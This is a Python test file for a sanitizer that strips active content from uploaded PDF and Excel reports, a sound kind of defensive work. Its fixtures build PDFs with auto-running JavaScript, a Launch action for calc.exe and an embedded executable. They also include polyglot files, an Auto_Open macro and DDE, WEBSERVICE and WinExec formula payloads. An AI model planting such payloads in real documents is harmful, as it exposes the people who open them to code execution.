import io
import zipfile
from datetime import date, datetime

import pikepdf
import pytest
import python_calamine
import xlsxwriter
from pikepdf import Array, Dictionary, Name, String
from python_calamine import SheetVisibleEnum

from comity.exchange import examine
from comity.exchange.errors import ReportRefused
from comity.exchange.examine import ReportKind
from tests.exchange.cast import pdf, workbook


def with_all_harm() -> bytes:
    """Every kind of active content that is looked for, directly and by reference, in actions and in their chains."""
    made = pikepdf.open(io.BytesIO(pdf()))
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('gotcha')"))
    made.Root.OpenAction = made.make_indirect(script)
    made.Root.AA = Dictionary(WC=script)
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
    made.attachments["evil.exe"] = b"MZ evil payload in here"
    page = made.pages[0]
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"))
    chained = Dictionary(S=Name.URI, URI=String("https://example.org"), Next=made.make_indirect(launch))
    page.obj.AA = Dictionary(O=launch)
    page.obj.Annots = Array(
        [
            made.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=chained)
            ),
            Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9])),
            Dictionary(
                Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=Name.SubmitForm)
            ),
        ]
    )
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=String("<xdp/>"))
    out = io.BytesIO()
    made.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def test_active_content_is_taken_out_and_named() -> None:
    before = with_all_harm()
    assert b"gotcha" in before
    assert b"evil payload" in before

    found = examine(before)

    with pikepdf.open(io.BytesIO(found.data)) as clean:
        written = (
            b"".join(
                one.unparse() + (one.read_bytes() if isinstance(one, pikepdf.Stream) else b"")
                for one in clean.objects
            )
            + clean.trailer.unparse()
        )
        assert len(clean.pages) == 2
    for harm in (
        b"gotcha",
        b"/JavaScript",
        b"/Launch",
        b"calc.exe",
        b"evil",
        b"/AA",
        b"/XFA",
        b"RichMedia",
        b"Submit",
    ):
        assert harm not in written
    assert found.removed == (
        "a form program",
        "a script",
        "an action that sends data",
        "an action that starts a program",
        "an action that starts by itself",
        "an embedded file",
        "embedded media",
    )


def test_what_was_examined_once_is_clean_the_second_time() -> None:
    once = examine(with_all_harm())
    twice = examine(once.data)

    assert twice.removed == ()
    assert twice.data == examine(twice.data).data


def test_a_plain_report_keeps_its_words() -> None:
    found = examine(pdf())

    assert found.removed == ()
    with pikepdf.open(io.BytesIO(found.data)) as again:
        assert b"Fire doors" in again.pages[0].Contents.read_bytes()


def locked(user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.save(out, encryption=pikepdf.Encryption(owner="owner", user=user))
    return out.getvalue()


def test_a_pdf_that_needs_a_password_is_refused() -> None:
    with pytest.raises(ReportRefused, match="password"):
        examine(locked("secret"))


def test_a_pdf_that_anybody_may_open_loses_its_lock() -> None:
    with pikepdf.open(io.BytesIO(examine(locked("")).data)) as again:
        assert not again.is_encrypted


def archive(*, comment: bytes = b"", **parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.comment = comment
        for name, data in parts.items():
            made.writestr(name.replace("__", "/").replace("_", "."), data)
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        pdf() + archive(evil_exe=b"MZ"),
        pdf() + archive(evil_exe=b"MZ", comment=b"\n%%EOF\n"),
        archive(xl__workbook_xml=b"<a/>", xl__one_xml=b"1", xl__two_xml=b"2").replace(b"xl/two", b"xl/one"),
        pdf() + b"<html><script>alert(1)</script></html>",
        b"GIF89a" + pdf(),
        b"MZ\x90\x00" + pdf(),
        archive(xl__workbook_xml=pdf()[:900]),
    ],
)
def test_a_file_that_is_two_kinds_at_once_is_refused(data: bytes) -> None:
    with pytest.raises(ReportRefused, match="at once"):
        examine(data)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"MZ\x90\x00",
        b"<html></html>",
        b"\xff\xd8\xff\xe0 photo",
        b"hello",
        b"\xd0\xcf\x11\xe0 old excel",
    ],
)
def test_what_is_no_report_is_refused_whatever_its_name(data: bytes) -> None:
    with pytest.raises(ReportRefused, match="neither a PDF nor"):
        examine(data, where="report.pdf")


@pytest.mark.parametrize("data", [b"%PDF-1.7\nrubbish", b"%PDF-1.7\n%%EOF", pdf()[:600]])
def test_a_damaged_pdf_is_refused(data: bytes) -> None:
    with pytest.raises(ReportRefused):
        examine(data)


def test_two_hundred_megabytes_are_refused_at_once() -> None:
    with pytest.raises(ReportRefused, match="200 MB"):
        examine(b"%PDF-" + bytes(200 * 1024**2))


def test_a_workbook_is_taken_as_it_is() -> None:
    found = examine(workbook())

    assert found.kind is ReportKind.WORKBOOK
    assert found.data == workbook()


def plan(*, formula: str = "=1+1") -> bytes:
    """A corrective action plan as people make them: two sheets, one of them hidden, days, amounts and a formula."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Plan")
        sheet.write_row(0, 0, ["Finding", "Due", "Cost", "Done"])
        sheet.write_string(1, 0, "=Overtime is paid at the plain rate")
        sheet.write_datetime(1, 1, datetime(2026, 11, 30), book.add_format({"num_format": "yyyy-mm-dd"}))  # noqa: DTZ001
        sheet.write_formula(1, 2, formula, None, 1250.5)
        sheet.write_boolean(1, 3, boolean=False)
        book.add_worksheet("Lists").hide()
        book.worksheets()[1].write(0, 0, "open")
    return out.getvalue()


def with_part(data: bytes, part: str) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as made:
        made.writestr(part, b'Sub Auto_Open(): Shell "calc": End Sub')
    return out.getvalue()


@pytest.mark.parametrize(
    ("part", "told"),
    [
        ("xl/vbaProject.bin", "macros"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("xl/externalLinks/externalLink1.xml", "links to other files"),
        ("xl/embeddings/a.bin", "embedded files"),
        ("xl/activeX/activeX1.bin", "programs"),
        ("xl/connections.xml", "connections to other places"),
    ],
)
def test_a_workbook_with_more_than_values_is_written_anew_with_its_values_alone(part: str, told: str) -> None:
    found = examine(with_part(plan(), part))

    assert found.removed == (told,)
    with zipfile.ZipFile(io.BytesIO(found.data)) as clean:
        assert part not in clean.namelist()
        assert b"Auto_Open" not in b"".join(clean.read(one) for one in clean.namelist())
        assert b"<f>" not in clean.read("xl/worksheets/sheet1.xml")
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(found.data))
    assert book.get_sheet_by_name("Plan").to_python() == [
        ["Finding", "Due", "Cost", "Done"],
        ["=Overtime is paid at the plain rate", date(2026, 11, 30), 1250.5, False],
    ]
    assert [one.visible for one in book.sheets_metadata] == [
        SheetVisibleEnum.Visible,
        SheetVisibleEnum.Hidden,
    ]
    assert examine(found.data).removed == ()
    assert examine(found.data).data == found.data


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("https://example.org/"&A1)',
        "=cmd|'/c calc'!A0",
        '=RTD("a.b",,"c")',
        '=CALL("k","WinExec","JC")',
    ],
)
def test_a_formula_that_fetches_or_starts_something_leaves_its_value_alone(formula: str) -> None:
    found = examine(plan(formula=formula))

    assert found.removed == ("formulas that fetch or start something",)
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(found.data))
    assert book.get_sheet_by_name("Plan").to_python()[1][2] == 1250.5


def test_usual_formulas_stay() -> None:
    data = plan(formula='=IF(A1="a|b",1,SUM(B1:B9))')

    assert examine(data).data == data


def test_a_workbook_whose_values_cannot_be_read_apart_is_refused() -> None:
    broken = archive(xl__workbook_xml=b"<workbook/>", xl__vbaProject_bin=b"x")

    with pytest.raises(ReportRefused, match="cannot be read apart"):
        examine(broken)


def test_a_workbook_that_unpacks_to_a_mountain_is_refused() -> None:
    out = io.BytesIO(workbook())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as made:
        made.writestr("xl/media/picture.png", bytes(40 * 1024**2))

    with pytest.raises(ReportRefused, match="unpack"):
        examine(out.getvalue())


def test_an_archive_that_is_no_workbook_is_refused() -> None:
    with pytest.raises(ReportRefused, match="no Excel workbook"):
        examine(archive(readme_txt=b"hello"))
